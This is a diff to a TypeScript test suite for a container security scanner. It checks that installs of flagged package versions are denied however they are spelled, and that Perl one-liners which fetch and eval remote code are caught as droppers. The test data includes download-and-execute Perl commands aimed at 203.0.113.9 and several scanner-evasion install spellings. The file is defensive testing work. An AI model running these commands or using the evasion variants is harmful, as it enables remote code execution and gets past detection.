@@ -400,23 +400,37 @@ t.test("malicious-packages' gate: an installer program cannot be named so that t
   }
 })
 
-t.test('installs the package reader does not read yet are refused', async (t) => {
+t.test('installs by an abbreviation, a runner or an option are read and refused, gated as ungated', async (t) => {
   for (const container of [
     { command: ['npm', 'inst', '@rspack/core@1.1.7'] },
+    { command: ['npm', 'in', '@rspack/core@1.1.7'] },
+    { command: ['/usr/bin/npm', 'isnta', '@rspack/core@1.1.7'] },
     { command: ['npm', 'exec', '--yes', '--', '@rspack/cli@1.1.7'] },
+    { command: ['npm', 'x', '-y', '@rspack/cli@1.1.7'] },
     { command: ['yarn', 'dlx', '@rspack/cli@1.1.7'] },
+    { command: ['npm', 'exec', '--package=@rspack/cli@1.1.7', '--', 'rspack', 'build'] },
+    { command: ['npx', '-p', '@rspack/cli@1.1.7', '-p', 'left-pad', 'rspack'] },
     { command: ['python3', '-mpip', 'install', 'ultralytics==8.3.41'] },
-    { command: ['uvx', 'ultralytics@8.3.41'] },
-    { command: ['uv', 'run', '--with', 'ultralytics==8.3.41', 'yolo'] },
+    { command: ['/usr/bin/python3.12', '-u', '-Impip3', 'install', 'ultralytics==8.3.41'] },
+    { command: ['sh', '-c', 'exec python -mpip install -q "ultralytics==8.3.41"'] },
     { command: ['npm', 'install', 'x@npm:@rspack/core@1.1.7'] },
+    { command: ['sh', '-c', 'pnpm add @rspack/core@npm:@rspack/core@1.1.7'] },
+    { command: ['uvx', 'ultralytics@8.3.41'] },
+    { command: ['uv', 'tool', 'run', '--from', 'ultralytics==8.3.41', 'yolo'] },
+    { command: ['uvx', '--with', 'requests,ultralytics==8.3.41', 'black'] },
+    { command: ['uv', 'run', '--with', 'ultralytics==8.3.41', 'yolo'] },
+    { command: ['uv', 'run', '--python', '3.12', '--with=ultralytics==8.3.41', 'yolo'] },
+    // -v is verbose to pip: the word after it is a package, not a version.
+    { command: ['pip', 'install', '-v', 'ultralytics==8.3.41'] },
   ] as Partial<V1Container>[]) {
     const name = JSON.stringify(container)
-    // The gate is not the cause: the ungated read misses them too.
-    t.same(verdicts(container, 'malicious-packages').length, ungatedPackages(container).length, name)
-    t.equal(verdicts(container, 'malicious-packages')[0]?.action, 'deny', name, {
-      todo: 'evasion found, see report: reader gaps in src/detect/package-installs.ts',
-    })
+    const found = verdicts(container, 'malicious-packages')
+    t.equal(found[0]?.action, 'deny', name)
+    t.ok(packageIndex.mayMatchIn(textsOf(container)), name)
+    t.equal(found.length, ungatedPackages(container).length, name)
   }
+  // `npm instx` and `npm i-` are no install to npm: an abbreviation is a prefix of install, nothing more.
+  for (const sub of ['instx', 'installs', 'ix', 'exe']) t.same(ungatedPackages({ command: ['npm', sub, '@rspack/core@1.1.7'] }), [], sub)
 })
 
 t.test("miner-images' cut-by-position parsing and account lookup: every spelling of a listed publisher is refused", async (t) => {
@@ -528,11 +542,23 @@ t.test(
 )
 
 t.test('a Perl one-liner that loads LWP with -M and evals what it gets is a dropper', async (t) => {
-  const container = { command: ['perl', '-MLWP::Simple', '-e', 'eval get "http://203.0.113.9/x"'] }
-  // The gate is not the cause: the ungated scanner misses it too (`\bLWP::` needs a word start, and -M stands before it).
-  t.same(scannerSays(gatedScanner, container), scannerSays(ungatedScanner, container))
-  const kinds = scannerSays(gatedScanner, container).map((signal) => signal.kind)
-  t.ok(kinds.includes('download-to-shell'), JSON.stringify(kinds), { todo: 'evasion found, see report: FETCHES in src/detect/script-droppers.ts' })
+  for (const command of [
+    ['perl', '-MLWP::Simple', '-e', 'eval get "http://203.0.113.9/x"'],
+    ['sh', '-c', `perl -MLWP::Simple -e 'eval get q{http://203.0.113.9/x}'`],
+    ['perl', '-MLWP::Simple', '-e', 'eval(get($ENV{U}))'],
+    ['sh', '-c', `perl -MLWP::Simple -e 'exec(get($ENV{U}))'`],
+    ['sh', '-c', `perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new("203.0.113.9:80");eval(join"",<$s>)'`],
+  ]) {
+    const container = { command }
+    const name = JSON.stringify(command)
+    // `\bLWP::` needs a word start, and -M stands before it: the -M spelling is read on its own.
+    t.same(scannerSays(gatedScanner, container), scannerSays(ungatedScanner, container), name)
+    const kinds = scannerSays(gatedScanner, container).map((signal) => signal.kind)
+    t.ok(kinds.includes('download-to-shell'), `${name}: ${JSON.stringify(kinds)}`)
+  }
+  // Loading LWP without executing what it gets is no dropper.
+  const kinds = scannerSays(gatedScanner, { command: ['perl', '-MLWP::Simple', '-e', 'getstore("http://203.0.113.9/x", "x")'] }).map((s) => s.kind)
+  t.notOk(kinds.includes('download-to-shell'), JSON.stringify(kinds))
 })
 
 t.test('a pool named without its port connects, never reported by itself: curl -o file -u user is no miner', async (t) => {
